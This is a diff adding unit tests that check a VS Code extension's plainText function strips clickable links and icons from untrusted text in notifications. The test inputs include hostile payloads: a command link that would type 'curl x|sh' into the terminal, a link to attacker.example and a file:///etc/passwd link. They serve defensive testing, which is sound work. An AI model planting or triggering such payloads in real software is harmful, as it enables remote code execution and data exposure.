@@ -8,7 +8,7 @@
  */
 import * as assert from 'node:assert/strict';
 import { createRequire } from 'node:module';
-import { bound, commandLink, MAX_TEXT, mdCode, mdText } from '../../src/model/markdownText';
+import { bound, commandLink, MAX_TEXT, mdCode, mdText, plainText } from '../../src/model/markdownText';
 import { HOSTILE, HOSTILE_ALL } from '../emulator/fixtures';
 
 interface MarkdownIt {
@@ -214,5 +214,36 @@ describe('markdownText: outside text renders as text (issue 13)', () => {
       assert.deepEqual(JSON.parse(decodeURIComponent(anchors[0].slice(anchors[0].indexOf('?') + 1))), ['a)](https://host.example/x) ![i](https://host.example/i.png) (']);
       assert.ok(!tags(html).includes('img'), html);
     });
+  });
+});
+
+describe('plainText: outside text in notifications and status-bar messages', () => {
+  // VS Code 1.100's own patterns: the notification's link parser and the label icon parser.
+  const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
+  const ICON = /\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;
+  const payloads = [
+    ...HOSTILE_ALL.split('\n'),
+    '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
+    'see [docs](https://attacker.example/) and [f](file:///etc/passwd)',
+    '$(zap) $(loading~spin) failed',
+  ];
+
+  for (const text of payloads) {
+    it(`leaves no link and no icon: ${JSON.stringify(text).slice(0, 60)}`, () => {
+      const plain = plainText(text);
+      assert.deepEqual([...plain.matchAll(NOTIFICATION_LINK)].map((m) => m[0]), []);
+      assert.deepEqual([...plain.matchAll(ICON)].map((m) => m[0]), []);
+      // Reads as the same text: only zero-width spaces were added.
+      assert.equal(plain.replace(/\u200b/g, ''), text);
+    });
+  }
+
+  it('the payloads do hold links and icons before (the test can fail)', () => {
+    assert.ok(payloads.some((t) => t.match(NOTIFICATION_LINK)));
+    assert.ok(payloads.some((t) => t.match(ICON)));
+  });
+
+  it('is bounded', () => {
+    assert.equal(plainText('x'.repeat(MAX_TEXT * 3)).length, MAX_TEXT + 1);
   });
 });
